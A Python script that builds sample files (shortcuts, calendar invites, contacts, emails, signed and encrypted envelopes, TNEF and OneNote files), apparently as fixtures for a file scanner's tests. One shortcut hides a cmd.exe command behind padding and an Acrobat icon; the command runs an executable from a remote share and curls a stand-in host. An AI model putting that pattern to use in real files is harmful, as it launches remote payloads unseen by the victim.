#!/usr/bin/env python3
"""Makes the samples under small/: shortcuts, calendars, contacts, messages, envelopes, notes, by programs that are not ours.

    apt-get install openssl gnupg; pip install pylnk3 icalendar vobject
    python3 make_small.py

The samples are kept beside this script; it is run again only to change them. Nothing in them does harm.
"""
import datetime
import email.message
import email.policy
import pathlib
import struct
import subprocess
import tempfile
import uuid

import icalendar
import pylnk3
import vobject

OUT = pathlib.Path(__file__).parent / "small"
OUT.mkdir(exist_ok=True)


def write(name, data):
    (OUT / name).write_bytes(data)
    assert len(data) < 20_000, (name, len(data))


def shortcuts():
    with tempfile.TemporaryDirectory() as folder:
        path = f"{folder}/a.lnk"
        pylnk3.for_file(r"C:\Users\alice\Documents\Report 2024.docx", path, description="Quarterly report",
            work_dir=r"C:\Users\alice\Documents")
        write("document.lnk", pathlib.Path(path).read_bytes())
        pylnk3.for_file(r"C:\Windows\System32\cmd.exe", path, arguments=" " * 300 + r"/c start \\198.51.100.7\share\a.exe & curl https://load.example/x",
            icon_file=r"C:\Program Files\Adobe\Acrobat DC\Acrobat\Acrobat.exe", icon_index=1, window_mode="Minimized")
        write("command.lnk", pathlib.Path(path).read_bytes())
        pylnk3.for_file("\\\\files.example\\public\\plans.docx", path)
        write("share.lnk", pathlib.Path(path).read_bytes())


def calendars():
    calendar = icalendar.Calendar()
    calendar.add("prodid", "-//Example//Calendar//EN")
    calendar.add("version", "2.0")
    calendar.add("method", "REQUEST")
    event = icalendar.Event()
    event.add("uid", "20240101@example")
    event.add("summary", "Budget meeting, room 4; floor 2")
    event.add("description", "Agenda:\nplease read https://docs.example/agenda before we meet, it is a rather long line that is folded by the program that writes it")
    event.add("location", "https://meet.example/j/123")
    event.add("dtstart", datetime.datetime(2024, 5, 1, 9, 0))
    event.add("dtstamp", datetime.datetime(2024, 4, 1, 9, 0))
    event.add("url", "https://calendar.example/event/1")
    organizer = icalendar.vCalAddress("mailto:alice@example.org")
    organizer.params["cn"] = icalendar.vText("Alice Example")
    event["organizer"] = organizer
    event.add("x-alt-desc", '<html><body><p>Join <a href="https://login.example/teams">the meeting</a></p></body></html>', parameters={"FMTTYPE": "text/html"})
    attachment = icalendar.vBinary(b"words of the attached file")
    attachment.params["FMTTYPE"] = "text/plain"
    attachment.params["FILENAME"] = "notes.txt"
    event.add("attach", attachment)
    calendar.add_component(event)
    write("meeting.ics", calendar.to_ical())


def cards():
    card = vobject.vCard()
    card.add("n").value = vobject.vcard.Name(family="Müller", given="Eva")
    card.add("fn").value = "Eva Müller"
    card.add("email").value = "eva@example.org"
    card.add("url").value = "https://eva.example/"
    card.add("note").value = "Call after six"
    photo = card.add("photo")
    photo.value = b"\x89PNG\r\n\x1a\n" + bytes(20)
    photo.encoding_param = "b"
    photo.type_param = "PNG"
    write("eva.vcf", card.serialize().encode())


def messages():
    inner = email.message.EmailMessage(policy=email.policy.SMTP)
    inner["From"] = "Alice <alice@example.org>"
    inner["To"] = "bob@example.com"
    inner["Subject"] = "Grüße mit Anhang"
    inner["Date"] = "Mon, 01 Jan 2024 10:00:00 +0000"
    inner.set_content("Please open https://inner.example/a\n")
    inner.add_attachment(b"words of the attachment", maintype="text", subtype="plain", filename="inner.txt")
    inner.set_boundary("=_inner")
    write("inner.eml", inner.as_bytes())
    page = email.message.EmailMessage(policy=email.policy.SMTP)
    page["From"] = "<Saved by Blink>"
    page["Subject"] = "A saved page"
    page["Date"] = "Mon, 01 Jan 2024 10:00:00 +0000"
    page["Snapshot-Content-Location"] = "https://saved.example/"
    page.set_content('<html><body><p>Sign in <a href="https://saved.example/login">here</a></p></body></html>', subtype="html", cte="quoted-printable")
    page["Content-Location"] = "https://saved.example/"
    page.make_related(boundary="----Multipart--Boundary")
    page.add_related(b"body { color: red }", maintype="text", subtype="css")
    write("page.mhtml", page.as_bytes())
    return inner.as_bytes()


def run(*args, data=b""):
    return subprocess.run(args, input=data, check=True, stdout=subprocess.PIPE, stderr=subprocess.DEVNULL).stdout


def envelopes(inner):
    entity = b"Content-Type: multipart/mixed; boundary=\"=_inner\"\r\n\r\n" + inner.split(b"\r\n\r\n", 1)[1]
    with tempfile.TemporaryDirectory() as folder:
        key, certificate = f"{folder}/key.pem", f"{folder}/cert.pem"
        run("openssl", "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-keyout", key, "-out", certificate, "-subj", "/CN=Alice", "-days", "3650")
        sign = ["openssl", "cms", "-sign", "-binary", "-signer", certificate, "-inkey", key, "-outform", "DER"]
        write("opaque.p7m", run(*sign, "-nodetach", data=entity))
        write("stream.p7m", run(*sign, "-nodetach", "-stream", data=entity * 12))
        write("detached.p7s", run(*sign, data=entity))
        write("report.pdf.p7m", run(*sign, "-nodetach", data=b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"))
        write("enveloped.p7m", run("openssl", "cms", "-encrypt", "-binary", "-aes256", "-outform", "DER", certificate, data=entity))
        write("armoured.p7m", run(*sign[:-1], "PEM", "-nodetach", data=entity).replace(b"CMS", b"PKCS7"))
    with tempfile.TemporaryDirectory() as home:
        gpg = ["gpg", "--homedir", home, "--batch", "--yes", "--pinentry-mode", "loopback", "--passphrase", ""]
        run(*gpg, "--quick-generate-key", "Alice <alice@example.org>", "default", "default", "never")
        words = b"words of a signed message, see https://signed.example/\n" * 3
        write("signed.asc", run(*gpg, "--armor", "--set-filename", "letter.txt", "--sign", data=words))
        write("clear.asc", run(*gpg, "--clearsign", data=words))
        write("encrypted.asc", run(*gpg, "--armor", "--trust-model", "always", "-r", "alice@example.org", "--encrypt", data=words))
        write("encrypted.gpg", run(*gpg, "--trust-model", "always", "-r", "alice@example.org", "--encrypt", data=words))


def tnef():
    """By MS-OXTNEF; that it is well made is checked with tnefparse."""

    def attribute(level, tag, kind, data):
        return struct.pack("<BHHI", level, tag, kind, len(data)) + data + struct.pack("<H", sum(data) & 0xffff)

    def padded(data):
        return data + bytes(-len(data) % 4)

    def prop(kind, tag, data):
        if kind == 3:
            return struct.pack("<HHI", kind, tag, data)
        return struct.pack("<HHII", kind, tag, 1, len(data)) + padded(data)

    def props(*own):
        return struct.pack("<I", len(own)) + b"".join(own)

    def wide(text):
        return text.encode("utf-16-le") + b"\0\0"

    def attachment(long, short, data, extra=()):
        return (attribute(2, 0x9002, 6, struct.pack("<HIHHII", 1, 0, 0, 0, 0, 0)) + attribute(2, 0x8010, 1, short.encode() + b"\0")
            + attribute(2, 0x800f, 6, data)
            + attribute(2, 0x9005, 6, props(prop(3, 0x3705, 1), prop(0x1f, 0x3707, wide(long)), *extra)))

    head = struct.pack("<IH", 0x223E9F78, 1)
    version = attribute(1, 0x9006, 8, struct.pack("<I", 0x10000)) + attribute(1, 0x9007, 6, struct.pack("<II", 1252, 0))
    # The RTF of MS-OXRTFCP 3.1.1.1.
    rtf = bytes.fromhex("2d0000002b0000004c5a4675f1c5c7a703000a007263706731323542320af32068656c090020627705b06c647d0a800fa0")
    inner = head + version + attribute(1, 0x8004, 1, b"Inner message\0") + attachment("deep.txt", "DEEP.TXT", b"words of the inner file")
    message = prop(0x0d, 0x3701, uuid.UUID("00020307-0000-0000-c000-000000000046").bytes_le + inner)
    data = (head + version + attribute(1, 0x8004, 1, b"Outer message\0")
        + attribute(1, 0x9003, 6, props(prop(0x1f, 0x1000, wide("Body, see https://tnef.example/")), prop(0x102, 0x1009, rtf)))
        + attachment("a long name of a file.txt", "ALONG~1.TXT", b"words of the first file")
        + attribute(2, 0x9002, 6, struct.pack("<HIHHII", 1, 0, 0, 0, 0, 0))
        + attribute(2, 0x9005, 6, props(prop(3, 0x3705, 5), prop(0x1f, 0x3001, wide("Inner message")), message)))
    from tnefparse import TNEF
    check = TNEF(data)
    assert [one.long_filename() for one in check.attachments][0] == "a long name of a file.txt", check.attachments
    write("winmail.dat", data)


def onenote():
    """By MS-ONESTORE 2.6.13: no program here writes such files."""

    def blob(data):
        start = uuid.UUID("bde316e7-2665-4511-a4c4-8d4d0b7a9eac").bytes_le
        end = uuid.UUID("71fba722-0f79-4a0b-bb13-899256426b24").bytes_le
        return start + struct.pack("<QIQ", len(data), 0, 0) + data + bytes(-len(data) % 8) + end

    head = uuid.UUID("7b5c52e4-d88c-4da7-aeb1-5378d02996d3").bytes_le + bytes(240)
    text = "Click the button to open the file".encode("utf-16-le") + bytes(4)
    link = "see https://note.example/open".encode("utf-16-le") + bytes(4)
    name = "invoice.cmd".encode("utf-16-le") + bytes(4)
    picture = b"\x89PNG\r\n\x1a\n" + bytes(30)
    write("note.one", head + text + blob(picture) + bytes(16) + name + link + blob(b"@echo words of the file\r\n"))
    write("clean.one", head + text + blob(picture))


shortcuts()
calendars()
cards()
envelopes(messages())
tnef()
onenote()
